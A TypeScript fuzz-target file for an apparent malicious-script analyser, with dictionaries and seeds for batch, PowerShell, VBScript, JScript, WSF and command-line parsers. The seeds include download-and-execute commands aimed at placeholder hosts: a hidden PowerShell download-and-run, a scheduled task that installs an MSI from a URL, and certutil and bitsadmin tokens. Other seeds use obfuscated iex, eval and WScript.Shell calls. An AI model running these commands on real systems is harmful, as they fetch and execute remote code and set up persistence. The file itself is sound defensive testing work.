import { avCheckBatch, obfuscatedAvCheckBatch } from '../../samples-synthetic/ingredient/batch.js';
import { interpretCommand } from '../../src/commands/interpret-command.js';
import { expandFormatted } from '../../src/formats/msi/formatted.js';
import { analyseScript } from '../../src/scripts/analyse-script.js';
import { identifyScript } from '../../src/scripts/identify-script.js';
import type { ScriptType } from '../../src/scripts/script-facts.js';
import { parserOptions } from '../fuzz-input.js';
import type { FuzzTarget } from '../fuzz-target.js';

function scriptTarget(type: ScriptType, dictionary: readonly string[], seeds: readonly string[]): FuzzTarget {
  return {
    name: type,
    maxLengthInBytes: 1024,
    dictionary,
    seeds: async () => seeds.map((seed) => new TextEncoder().encode(seed)),
    run: (bytes) => {
      const options = parserOptions(bytes);
      const facts = analyseScript(bytes, type, options);
      return [identifyScript(bytes, ''), facts, options.problems];
    },
  };
}

const decoder = new TextDecoder();

export const batchTarget = scriptTarget(
  'batch',
  [
    ...[
      'for %%a in (',
      'for /l %%i in (1,1,9) do ',
      'for /f "tokens=1,2* delims=," %%a in (',
      ') do (',
      'goto ',
      ':',
    ],
    ...[
      'call :',
      'if not exist ',
      ') else (',
      'set /a ',
      'set x=',
      '%x:~1,2%',
      '!x!',
      '%x:a=b%',
      'setlocal enabledelayedexpansion',
    ],
    ...[
      '%%~dpa',
      '%~1',
      '%*',
      '^',
      '&&',
      '||',
      '|',
      '>nul 2>&1',
      'cmd /c "',
      '\r\n',
      'exit /b 1',
      'shift',
      '%random%',
    ],
  ],
  [
    decoder.decode(avCheckBatch()),
    decoder.decode(obfuscatedAvCheckBatch()),
    '@echo off\nsetlocal enabledelayedexpansion\nfor /l %%i in (1,1,3) do (\n set /a x=%%i*2+1\n call :s !x!\n)\ngoto :eof\n:s\necho %1\nexit /b',
  ],
);

export const powershellTarget = scriptTarget(
  'powershell',
  [
    ...[
      '-enc ',
      '[char]',
      '-join',
      '-f ',
      '-replace ',
      '$x=',
      '+',
      'iex ',
      '[Convert]::FromBase64String(',
      "'",
      '"',
      '`',
      '@(',
      ')',
    ],
    ...[
      'New-Object ',
      'IO.Compression.DeflateStream',
      '-split ',
      '-bxor ',
      '[0..3]',
      '$($x)',
      '{0}{1}',
      '| % {',
      '}',
      '@"\n',
      '"@',
    ],
  ],
  [
    'powershell -nop -w hidden -enc SQBFAFgAIAAnAGEAJwA=',
    "$a='ab'+'cd'; iex ($a -replace 'a','x'); ('{1}{0}' -f 'a','b') | iex; [char]65 -join ''",
    "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA'))",
  ],
);

export const vbscriptTarget = scriptTarget(
  'vbscript',
  [
    'Chr(',
    'ChrW(&H41)',
    ' & ',
    'Execute ',
    'CreateObject("WScript.Shell")',
    '.Run ',
    'StrReverse(',
    'Replace(',
    'Split(',
    'Join(',
    'Dim x',
    '"',
    "'",
    'Array(',
    ')',
  ],
  [
    'Set s = CreateObject("WScript" & ".Shell")\ns.Run Chr(99) & "md /c " & StrReverse("tset"), 0, True\nExecute("x=1")',
  ],
);

export const jscriptTarget = scriptTarget(
  'jscript',
  [
    'String.fromCharCode(',
    'eval(',
    'new ActiveXObject("',
    'unescape("%',
    '.replace(',
    '.split("").reverse().join("")',
    '\\x41',
    '\\u0041',
    '/*',
    '*/',
    '//',
    '[',
    ']',
  ],
  [
    'var s = new ActiveXObject("WScr"+"ipt.Shell"); s.Run(String.fromCharCode(99,109,100)+" /c x", 0); eval("1"+"2");',
  ],
);

export const markupTarget = scriptTarget(
  'wsf',
  [
    '<script language="',
    '</script>',
    '<job>',
    '<![CDATA[',
    ']]>',
    'VBScript',
    'JScript',
    '<hta:application',
    '<!--',
    '-->',
  ],
  ['<job><script language="VBScript">CreateObject("WScript.Shell").Run "cmd"</script></job>'],
);

/** What one command line means. */
export const commandTarget: FuzzTarget = {
  name: 'command',
  maxLengthInBytes: 512,
  dictionary: [
    ...[
      'cmd /c ',
      'cmd.exe /v:on /c "',
      'powershell ',
      'rundll32 ',
      'regsvr32 /s /i:',
      'schtasks /create /tn ',
      ' /tr "',
    ],
    ...[
      'msiexec /q /i ',
      'http://a.b/c',
      ' -p',
      'unzip -P ',
      '7z x ',
      ' -o',
      'certutil -urlcache -f ',
      'bitsadmin ',
      '"',
      '^',
      '&',
      '&&',
      '|',
      '>',
      ',',
    ],
  ],
  seeds: async () =>
    [
      '"C:\\a b\\z.exe" x -pSecret kq.zip -oC:\\out & rundll32 urlmon.7z,Start',
      'schtasks /create /tn "{A}" /tr "msiexec.exe /q /i http://a.example/x" /sc minute /mo 90 /f',
      'cmd /v:on /c "set a=uns&& set b=zip&& !a!!b! -P x a.zip"',
      "powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://a','b'); Start-Process b\"",
    ].map((text) => new TextEncoder().encode(text)),
  run: (bytes) => interpretCommand(decoder.decode(bytes)),
};

/** Formatted text over properties that refer to one another. */
export const formattedTarget: FuzzTarget = {
  name: 'formatted',
  maxLengthInBytes: 256,
  dictionary: [
    '[',
    ']',
    '{',
    '}',
    '{{',
    '}}',
    '[A]',
    '[B]',
    '[[A]]',
    '[#f]',
    '[$c]',
    '[!f]',
    '[%x]',
    '[\\[]',
    '[~]',
    '\n',
  ],
  seeds: async () =>
    ['[A]{b [B]}\n[B] [A]\nx[C]y', '[[C]]\nA\nB'].map((text) => new TextEncoder().encode(text)),
  run: (bytes) => {
    const [text = '', a = '', b = '', c = ''] = decoder.decode(bytes).split('\n');
    const properties = new Map(Object.entries({ A: a, B: b, C: c }));
    const nothing = new Map<string, never>();
    return expandFormatted(text, {
      properties,
      assignments: new Map([
        [
          'A',
          [b, c].map((value, index) => ({ value, condition: index === 0 ? '' : a, position: index + 1 })),
        ],
      ]),
      filesByKey: nothing,
      components: nothing,
      directories: new Map([['D', a]]),
    });
  },
};
